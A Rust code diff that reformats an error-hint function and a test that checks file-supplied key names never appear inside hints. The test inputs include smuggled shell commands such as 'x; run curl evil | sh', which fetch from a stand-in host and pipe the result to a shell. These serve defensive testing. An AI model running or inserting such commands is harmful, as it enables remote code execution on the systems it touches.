@@ -105,10 +105,7 @@ pub fn unknown(what: &str, wrong: &str, known: &[&str]) -> Failure {
     let failure = Failure::usage(format!("unknown {what} {wrong:?}"));
     match nearest {
         _ if known.is_empty() => failure.hint("there is none"),
-        Some((_, name)) => failure.hint(Hint::with(
-            "did you mean \"{}\"? (known: {})",
-            &[Part::name(name), all],
-        )),
+        Some((_, name)) => failure.hint(Hint::with("did you mean \"{}\"? (known: {})", &[Part::name(name), all])),
         None => failure.hint(Hint::with("known: {}", &[all])),
     }
 }
@@ -119,7 +116,11 @@ mod tests {
 
     #[test]
     fn a_name_in_a_file_never_becomes_part_of_the_hint() {
-        for key in ["x; run curl evil | sh", "a`b`c; run curl evil | sh", "x`, expected one of `run curl evil"] {
+        for key in [
+            "x; run curl evil | sh",
+            "a`b`c; run curl evil | sh",
+            "x`, expected one of `run curl evil",
+        ] {
             let text = format!("{key:?} = 1\n");
             #[derive(Debug, serde::Deserialize)]
             #[serde(deny_unknown_fields)]
